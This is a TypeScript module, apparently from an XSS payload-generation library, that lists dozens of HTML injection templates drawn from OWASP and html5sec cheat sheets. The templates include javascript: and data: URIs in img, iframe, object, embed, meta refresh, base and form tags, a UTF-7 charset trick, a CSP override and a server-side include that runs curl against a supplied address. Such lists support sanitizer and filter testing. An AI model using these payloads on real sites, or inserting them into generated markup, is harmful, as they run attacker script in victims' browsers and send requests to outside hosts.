import { base64 } from '../character-references.ts'
import type { Category } from '../vector.ts'

export const EMBEDS: Category = {
  name: 'embeds',
  kind: 'html',
  source:
    'OWASP: IMG dynsrc and lowsrc, INPUT image, BODY background, BGSOUND, LAYER, LINK, META, IFRAME, FRAME, TABLE, TD, BASE, ' +
    'OBJECT, EMBED; html5sec: formaction, poster, srcdoc, srcset, isindex, keygen, link import and prefetch, meta refresh',
  techniques: [
    ['image', ({ address }) => `<img src=${address}.png>`],
    ['image-set', ({ address }) => `<img srcset="${address}.png 1x" src=x>`],
    [
      'image-of-code',
      ({ call }) => `<img src="javascript:${call}" dynsrc="javascript:${call}" lowsrc="javascript:${call}">`,
    ],
    ['lazy-image', ({ address }) => `<img loading=eager crossorigin src=${address}.png>`],
    ['picture', ({ address }) => `<picture><source srcset=${address}.webp><img src=${address}.png></picture>`],
    ['input-image', ({ address }) => `<input type=image src=${address}.png>`],
    ['video', ({ address }) => `<video autoplay src=${address}.mp4 poster=${address}.png></video>`],
    ['video-poster-of-code', ({ call }) => `<video poster=javascript:${call}></video>`],
    [
      'video-sources',
      ({ address }) => `<video autoplay><source src=${address}.mp4><track default src=${address}.vtt></video>`,
    ],
    ['audio', ({ address }) => `<audio autoplay src=${address}.mp3></audio>`],
    ['background-sound', ({ address }) => `<bgsound src=${address}.mp3>`],
    ['body-background', ({ address }) => `<body background=${address}.png>`],
    [
      'table-background',
      ({ address }) => `<table background=${address}.png><tr><td background=${address}.png>x</table>`,
    ],
    ['frame', ({ address }) => `<iframe src=${address}></iframe>`],
    ['frame-of-code', ({ call }) => `<iframe src="javascript:parent.${call}"></iframe>`],
    ['frame-of-data', ({ call }) => `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`],
    ['frame-of-document', ({ call }) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`],
    [
      'frame-of-referenced-document',
      ({ call }) => `<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.${call}&gt;"></iframe>`,
    ],
    [
      'frame-in-sandbox',
      ({ address }) => `<iframe sandbox="allow-scripts allow-top-navigation" src=${address}></iframe>`,
    ],
    ['frame-half-open', ({ address }) => `<iframe src=${address} <`],
    ['frame-set', ({ call }) => `<frameset><frame src="javascript:top.${call}"></frameset>`],
    ['fenced-frame', ({ address }) => `<fencedframe src=${address}></fencedframe><portal src=${address}></portal>`],
    ['layer', ({ address }) => `<layer src=${address}></layer><ilayer src=${address}></ilayer>`],
    ['object', ({ address }) => `<object data=${address}></object>`],
    ['object-of-code', ({ call }) => `<object data="javascript:${call}"></object>`],
    [
      'object-of-data',
      ({ call }) => `<object data="data:text/html;base64,${base64(`<script>parent.${call}</script>`)}"></object>`,
    ],
    [
      'object-with-parameters',
      ({ call }) =>
        `<object classid=clsid:ae24fdae><param name=url value=javascript:${call}><param name=src value=x></object>`,
    ],
    ['embed', ({ address }) => `<embed src=${address}.swf allowscriptaccess=always>`],
    ['embed-of-code', ({ call }) => `<embed src="javascript:${call}">`],
    ['applet', ({ address }) => `<applet code=x codebase=${address}></applet>`],
    ['refresh', ({ address }) => `<meta http-equiv=refresh content="0;url=${address}">`],
    ['refresh-to-code', ({ call }) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`],
    [
      'refresh-to-data',
      ({ call }) =>
        `<meta http-equiv=refresh content="0;url=data:text/html;base64,${base64(`<script>${call}</script>`)}">`,
    ],
    ['cookie', ({ call }) => `<meta http-equiv=Set-Cookie content="user=&lt;script&gt;${call}&lt;/script&gt;">`],
    ['charset', ({ call }) => `<meta charset=utf-7>+ADw-script+AD4-${call}+ADw-/script+AD4-`],
    [
      'policy',
      ({ address }) =>
        `<meta http-equiv=Content-Security-Policy content="script-src ${address}"><meta name=referrer content=unsafe-url>`,
    ],
    ['base', ({ address }) => `<base href="${address}/"><a href=x>x</a>`],
    ['base-of-code', ({ call }) => `<base href="javascript:${call};//"><a href=#>x</a>`],
    ['base-target', ({ address }) => `<base target=_top href=${address}>`],
    ['prefetch', ({ address }) => `<link rel=prefetch href=${address}>`],
    [
      'prefetch-of-name',
      ({ address }) => `<link rel=dns-prefetch href=${address}><link rel=preconnect href=${address}>`,
    ],
    [
      'preload',
      ({ address }) => `<link rel=preload as=image href=${address}.png><link rel=modulepreload href=${address}.js>`,
    ],
    ['prerender', ({ address }) => `<link rel=prerender href=${address}>`],
    ['html-import', ({ call }) => `<link rel=import href="data:text/html,<script>${call}</script>">`],
    ['manifest', ({ address }) => `<link rel=manifest href=${address}.json><link rel=icon href=${address}.ico>`],
    ['form', ({ address }) => `<form action=${address}><input name=q autofocus><button>x</button></form>`],
    ['form-of-code', ({ call }) => `<form action="javascript:${call}"><input type=submit></form>`],
    ['form-action', ({ call }) => `<form id=f><button formaction="javascript:${call}">x</button></form>`],
    [
      'form-action-from-outside',
      ({ call }) => `<form id=f></form><input form=f type=submit formaction="javascript:${call}">`,
    ],
    ['index', ({ call }) => `<isindex action="javascript:${call}" type=submit value=x>`],
    ['area', ({ call }) => `<img usemap=#m src=x><map name=m><area shape=default href="javascript:${call}"></map>`],
    ['link', ({ call }) => `<a href="javascript:${call}">x</a>`],
    ['link-in-a-frame', ({ call }) => `<a href="javascript:${call}" target=_blank rel=opener>x</a>`],
    [
      'ping',
      ({ address }) =>
        `<a href=https://example.org/ ping=${address} attributionsrc=${address} target=_blank rel=opener>x</a>`,
    ],
    [
      'quotation',
      ({ call }) =>
        `<blockquote cite="javascript:${call}"><q cite="javascript:${call}">x</q><ins cite="javascript:${call}">y</ins></blockquote>`,
    ],
    [
      'menu',
      ({ call }) =>
        `<menu type=context id=m><command onclick=${call} icon=javascript:${call}>x</command></menu><p contextmenu=m>x</p>`,
    ],
    ['custom-built-in', ({ address }) => `<script is=x src=${address}.js></script><p is=x-y slot=z part=w>x</p>`],
    ['application-cache', ({ address }) => `<html manifest=${address} data-root=${address}/ onmouseover=x>`],
    ['server-include', ({ address }) => `<!--#exec cmd="curl ${address}"--><esi:include src="${address}"/>`],
  ],
}
